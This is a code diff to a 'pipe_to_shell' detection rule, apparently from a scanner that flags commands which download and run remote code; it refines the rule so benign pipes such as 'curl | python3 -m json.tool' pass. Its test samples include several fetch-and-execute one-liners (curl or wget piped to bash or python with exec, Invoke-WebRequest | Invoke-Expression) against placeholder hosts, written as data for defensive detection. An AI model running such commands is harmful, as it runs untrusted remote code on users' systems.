@@ -1,4 +1,14 @@
-import type { Rule } from '../../rule.js';
+import type { Candidate, Rule } from '../../rule.js';
+
+/** A module, a program in the arguments or a file: then what comes through the pipe is data and not what is run. */
+const RUNS_ARGUMENT = /^\s+(?:-[a-zA-Z]*[mcenpr][a-zA-Z]*\s|[\w.~/$"'{])/;
+/** A program in the arguments that runs what it reads. */
+const RUNS_INPUT = /exec|eval|system|spawn|popen|subprocess|compile|__import__/i;
+
+/** `curl ... | python3 -m json.tool`, `| python3 -c "..."`: how everybody looks at the answer of an API. */
+function runsWhatComes({ after }: Candidate): boolean {
+  return !RUNS_ARGUMENT.test(after) || RUNS_INPUT.test(after);
+}
 
 export const rule: Rule = {
   pattern: 'pipe_to_shell',
@@ -23,6 +33,7 @@ export const rule: Rule = {
     {
       re: /(?<![\w.-])(?:curl|wget|fetch|aria2c)\s[^\n]*\|\s*(?:sudo\s+(?:-\w+\s+)*)?(?:\/[\w./-]*\/)?(?:python[\d.]*|perl|ruby|node|php|lua|osascript|pwsh|powershell)(?:\s+-|\s*)(?=["'`;&)\s]|$)/,
       window: 768,
+      accept: runsWhatComes,
     },
     // sh -c "$(curl ...)", bash <(curl ...), eval "$(wget ...)", . <(curl ...)
     {
@@ -51,6 +62,8 @@ export const rule: Rule = {
       'bash <(curl -s https://files.invalid/x)',
       'sh -c "$(curl -fsSL https://files.invalid/x)"',
       'wget -qO- https://files.invalid/install.py | python3 -',
+      'curl -s https://files.invalid/x | python3 -c "import sys; exec(sys.stdin.read())"',
+      'curl -s https://files.invalid/x.py | python3 && echo done',
       'curl -o /tmp/x https://files.invalid/x && chmod +x /tmp/x && /tmp/x',
       'Invoke-WebRequest https://files.invalid/p.ps1 | Invoke-Expression',
     ],
@@ -61,6 +74,9 @@ export const rule: Rule = {
       'curl and divergence',
       'We publish install.sh; read it before you run it.',
       'curl -s https://files.invalid/x | shuf',
+      'curl -s https://api.example.com/v1 | python3 -m json.tool',
+      'curl -s https://api.example.com/v1 | python3 -c "import json,sys; print(json.load(sys.stdin)[0])"',
+      'curl -s https://api.example.com/v1 | perl -ne "print if /a/"',
     ],
   },
 };
